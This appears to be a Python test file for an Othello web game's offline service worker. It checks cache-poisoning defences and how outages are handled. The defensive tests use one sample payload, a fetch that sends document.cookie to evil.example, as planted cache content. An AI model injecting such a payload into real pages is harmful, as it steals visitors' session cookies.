"""The offline worker's decisions, run in Node with a fake network and cache (``tests/page/worker_harness.js``).

Fast cases of what ``tests/test_page_worker.py`` and ``tests/test_page_offline.py``
check in a real browser: each one a way the worker once lost or spoiled a
visitor's offline copy (issue 48):

* an update whose refetch of the runtime failed (the CDN down, a 503) installed
  anyway, and its ``activate`` deleted the old, working cache;
* a 200 HTML page sent with CORS headers for ``main.js`` (a CDN's error page, a
  proxy's) was kept as the runtime;
* a copy of a page file planted in the new build's cache (by any page of the
  origin, while the old build's page ran) was served for good: the worker
  knew no file's hash (item 7); a planted runtime file (pygbag's loader) still was,
  until the build recorded the runtime's hashes too.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from game.web.offline import BUILD_FIELD, FILES_FIELD, HASHES_FIELD, HERE

pytestmark = pytest.mark.skipif(shutil.which("node") is None, reason="Node.js runs the worker's JavaScript")

HARNESS = Path(__file__).resolve().parent / "page" / "worker_harness.js"
SCOPE = "https://game.example/othello/"
PAGE_FILES = ["index.html", "othello.tar.gz", "favicon.png"]
OLD = f"othello:{SCOPE}:0123456789ab"
NEW = f"othello:{SCOPE}:ba9876543210"
MAIN_JS = "https://cdn.example/cdn/0.9.3/cpython312/main.js"
MAIN_WASM = "https://cdn.example/cdn/0.9.3/cpython312/main.wasm"
SCRIPT = {"status": 200, "type": "cors", "contentType": "text/javascript", "body": "// CPython"}
WASM = {"status": 200, "type": "cors", "contentType": "application/wasm", "body": "\0asm"}
ERROR_PAGE = {"status": 200, "type": "cors", "contentType": "text/html; charset=utf-8",
              "body": "<!doctype html><title>Service unavailable</title>"}


def run_worker(steps: list[list[Any]], network: dict[str, Any], old_cache: dict[str, str] | None = None,
               runtime_pins: dict[str, str] | None = None) -> dict[str, Any]:
    """The harness's report: each step's outcome and every cache's addresses and bodies afterwards.

    ``runtime_pins``: the runtime files' SHA-256 the build recorded, by address (none by default).
    """
    worker = (HERE / "service_worker.js").read_text(encoding="utf-8")
    worker = worker.replace(BUILD_FIELD, NEW.rsplit(":", 1)[1]).replace(FILES_FIELD, json.dumps(PAGE_FILES))
    pins = (runtime_pins or {}) | {name: hashlib.sha256(f"new {name}".encode()).hexdigest() for name in PAGE_FILES}
    worker = worker.replace(HASHES_FIELD, json.dumps(pins))
    page = {SCOPE + name: {"status": 200, "responseType": "basic", "body": f"new {name}"} for name in PAGE_FILES}
    caches = {}
    if old_cache is not None:
        caches[OLD] = {SCOPE + name: {"body": f"old {name}"} for name in PAGE_FILES}
        caches[OLD].update({url: {"body": body} for url, body in old_cache.items()})
    scenario = {"worker": worker, "scope": SCOPE, "caches": caches, "network": page | network, "steps": steps}
    completed = subprocess.run(["node", str(HARNESS)], input=json.dumps(scenario), capture_output=True,
                               text=True, timeout=30, check=True)
    return dict(json.loads(completed.stdout))


def update(network: dict[str, Any]) -> dict[str, Any]:
    """A new build's worker installing (and activating if it installed) over an old cache holding the runtime."""
    return run_worker([["install"], ["activate"]], network,
                      old_cache={MAIN_JS: "// old CPython", MAIN_WASM: "old wasm"})


def test_an_update_refetches_the_runtime_and_then_drops_the_old_cache() -> None:
    report = update({MAIN_JS: SCRIPT, MAIN_WASM: WASM})
    assert [step["ok"] for step in report["steps"]] == [True, True]
    assert list(report["caches"]) == [NEW]
    assert report["caches"][NEW][MAIN_JS] == "// CPython"
    assert report["caches"][NEW][MAIN_WASM] == "\0asm"


@pytest.mark.parametrize("answer", [
    "offline",                                                       # the runtime's host down
    {"status": 503, "type": "cors", "contentType": "text/plain", "body": "busy"},  # or refusing for a while
    ERROR_PAGE,                                                      # or its error page, as a 200
])
def test_an_update_that_cannot_refetch_the_runtime_does_not_install_and_the_old_copy_stays(answer: Any) -> None:
    report = update({MAIN_JS: SCRIPT, MAIN_WASM: answer})
    assert report["steps"][0]["ok"] is False  # the install fails: the old worker keeps serving
    assert len(report["steps"]) == 1          # so the new one never activates
    assert report["caches"][OLD][MAIN_WASM] == "old wasm"
    assert report["caches"][OLD][MAIN_JS] == "// old CPython"


def test_a_runtime_file_that_is_gone_for_good_is_left_out_of_the_update() -> None:
    # a language dropped from the game, an old runtime version removed: a 404 is an answer, not an outage
    report = update({MAIN_JS: SCRIPT, MAIN_WASM: {"status": 404, "type": "cors", "body": "not found"}})
    assert [step["ok"] for step in report["steps"]] == [True, True]
    assert list(report["caches"]) == [NEW]
    assert MAIN_WASM not in report["caches"][NEW] and MAIN_JS in report["caches"][NEW]


def test_an_html_page_is_never_kept_as_a_runtime_file() -> None:
    report = run_worker([["install"], ["fetch", MAIN_JS, "no-cors"], ["keep", [MAIN_WASM]]],
                        {MAIN_JS: ERROR_PAGE, MAIN_WASM: ERROR_PAGE | {"contentType": "application/xhtml+xml"}})
    assert [step["ok"] for step in report["steps"]] == [True, True, True]
    assert report["steps"][1]["answer"]["body"] == ERROR_PAGE["body"]  # passed on to the page, as the network said
    assert report["steps"][2]["answer"]["failed"] == [MAIN_WASM]
    assert MAIN_JS not in report["caches"][NEW] and MAIN_WASM not in report["caches"][NEW]


def test_a_runtime_file_is_kept_whatever_its_non_html_type() -> None:
    data = {"status": 200, "type": "cors", "contentType": "application/octet-stream", "body": "data"}
    untyped = {"status": 200, "type": "cors", "body": "js"}
    report = run_worker([["install"], ["fetch", MAIN_JS, "no-cors"], ["keep", [MAIN_WASM]]],
                        {MAIN_JS: untyped, MAIN_WASM: data})
    assert report["caches"][NEW][MAIN_JS] == "js" and report["caches"][NEW][MAIN_WASM] == "data"


PLANT = "fetch('https://evil.example/?' + document.cookie)"
INDEX, ARCHIVE = SCOPE + "index.html", SCOPE + "othello.tar.gz"


def test_the_page_files_are_served_from_the_cache_when_they_match_the_builds_hashes() -> None:
    offline = {SCOPE + name: "offline" for name in PAGE_FILES}
    report = run_worker([["install"], ["activate"], ["network", offline],
                         ["fetch", SCOPE, "navigate"], ["fetch", ARCHIVE, "cors"]], {})
    assert [step["ok"] for step in report["steps"]] == [True] * 5
    assert report["steps"][3]["answer"]["body"] == "new index.html"
    assert report["steps"][4]["answer"]["body"] == "new othello.tar.gz"


@pytest.mark.parametrize("url", [INDEX, ARCHIVE])
def test_a_planted_page_file_is_neither_served_nor_kept(url: str) -> None:
    # the old build's page, still open, writes its loader into the new build's cache during or after install
    report = run_worker([["install"], ["plant", NEW, url, PLANT], ["activate"],
                         ["fetch", INDEX, "navigate"], ["fetch", ARCHIVE, "cors"]], {})
    assert [step["ok"] for step in report["steps"]] == [True] * 5
    assert report["steps"][3]["answer"]["body"] == "new index.html"
    assert report["steps"][4]["answer"]["body"] == "new othello.tar.gz"
    assert report["caches"][NEW][url] == f"new {url.rsplit('/', 1)[1]}"  # the good copy, fetched anew, kept


def test_offline_a_planted_page_file_is_not_served() -> None:
    offline = {SCOPE + name: "offline" for name in PAGE_FILES}
    report = run_worker([["install"], ["plant", NEW, INDEX, PLANT], ["network", offline],
                         ["fetch", INDEX, "navigate"]], {})
    assert report["steps"][3]["ok"] is False or report["steps"][3]["answer"]["body"] != PLANT
    assert report["caches"][NEW].get(INDEX) != PLANT


def test_the_page_fetched_anew_at_any_address_is_kept_as_index_html() -> None:
    network = {SCOPE + "?debug": {"status": 200, "responseType": "basic", "contentType": "text/html",
                                  "body": "new index.html"}}
    report = run_worker([["install"], ["plant", NEW, INDEX, PLANT], ["network", network],
                         ["fetch", SCOPE + "?debug", "navigate"]], {})
    assert report["steps"][3]["answer"]["body"] == "new index.html"
    assert report["caches"][NEW][INDEX] == "new index.html" and SCOPE + "?debug" not in report["caches"][NEW]


def test_an_install_whose_page_file_does_not_match_its_hash_fails() -> None:
    # a plant already in the browser's HTTP cache, a proxy's rewrite: the build's files or no install
    report = run_worker([["install"]], {ARCHIVE: {"status": 200, "responseType": "basic", "body": PLANT}},
                        old_cache={})
    assert report["steps"][0]["ok"] is False
    assert NEW not in report["caches"] or ARCHIVE not in report["caches"][NEW]
    assert report["caches"][OLD][ARCHIVE] == "old othello.tar.gz"


def test_a_page_file_from_the_network_that_does_not_match_is_passed_on_but_not_kept() -> None:
    # an older worker still running when a newer build is deployed: the page's new files are not its own
    report = run_worker([["install"], ["plant", NEW, INDEX, PLANT],
                         ["network", {INDEX: {"status": 200, "responseType": "basic", "body": "newer index.html"}}],
                         ["fetch", INDEX, "navigate"]], {})
    assert report["steps"][3]["answer"]["body"] == "newer index.html"
    assert INDEX not in report["caches"][NEW]


def test_a_runtime_file_planted_in_the_new_cache_before_the_install_is_replaced() -> None:
    # the old build's page writes into the cache the new worker is about to fill: the refetch wins
    report = run_worker([["plant", NEW, MAIN_JS, PLANT], ["install"], ["activate"]], {MAIN_JS: SCRIPT, MAIN_WASM: WASM},
                        old_cache={MAIN_JS: "// old CPython", MAIN_WASM: "old wasm"})
    assert [step["ok"] for step in report["steps"]] == [True, True, True]
    assert report["caches"][NEW][MAIN_JS] == "// CPython"


RUNTIME_PINS = {MAIN_JS: hashlib.sha256(SCRIPT["body"].encode()).hexdigest(),
                MAIN_WASM: hashlib.sha256(WASM["body"].encode()).hexdigest()}


def test_a_runtime_file_planted_in_the_cache_is_neither_served_nor_kept() -> None:
    # the old build's page, its planted loader running, writes into the new cache after the install filled it
    report = run_worker([["install"], ["activate"], ["plant", NEW, MAIN_JS, PLANT], ["fetch", MAIN_JS, "no-cors"]],
                        {MAIN_JS: SCRIPT, MAIN_WASM: WASM}, old_cache={MAIN_JS: "// old CPython"},
                        runtime_pins=RUNTIME_PINS)
    assert [step["ok"] for step in report["steps"]] == [True] * 4
    assert report["steps"][3]["answer"]["body"] == SCRIPT["body"]  # fetched anew
    assert report["caches"][NEW][MAIN_JS] == SCRIPT["body"]         # and the good copy kept


def test_offline_a_planted_runtime_file_is_not_served() -> None:
    report = run_worker([["install"], ["fetch", MAIN_JS, "no-cors"], ["plant", NEW, MAIN_JS, PLANT],
                         ["network", {MAIN_JS: "offline"}], ["fetch", MAIN_JS, "no-cors"]],
                        {MAIN_JS: SCRIPT}, runtime_pins=RUNTIME_PINS)
    assert report["steps"][1]["answer"]["body"] == SCRIPT["body"]
    assert report["steps"][4]["ok"] is False or report["steps"][4]["answer"]["body"] != PLANT
    assert report["caches"][NEW].get(MAIN_JS) != PLANT


def test_a_runtime_file_that_does_not_match_its_pin_is_passed_on_but_never_kept() -> None:
    # a CDN that changed the file, a proxy's rewrite: the page gets the network's answer, the cache nothing
    other = SCRIPT | {"body": "// another CPython"}
    report = run_worker([["install"], ["fetch", MAIN_JS, "no-cors"], ["keep", [MAIN_WASM]]],
                        {MAIN_JS: other, MAIN_WASM: WASM | {"body": "another wasm"}}, runtime_pins=RUNTIME_PINS)
    assert report["steps"][1]["answer"]["body"] == "// another CPython"
    assert report["steps"][2]["answer"]["failed"] == [MAIN_WASM]
    assert MAIN_JS not in report["caches"][NEW] and MAIN_WASM not in report["caches"][NEW]


def test_an_update_leaves_out_a_runtime_file_that_no_longer_matches_its_pin() -> None:
    report = run_worker([["install"], ["activate"]], {MAIN_JS: SCRIPT, MAIN_WASM: WASM | {"body": "another wasm"}},
                        old_cache={MAIN_JS: "// old CPython", MAIN_WASM: "old wasm"}, runtime_pins=RUNTIME_PINS)
    assert [step["ok"] for step in report["steps"]] == [True, True]
    assert report["caches"][NEW][MAIN_JS] == SCRIPT["body"] and MAIN_WASM not in report["caches"][NEW]
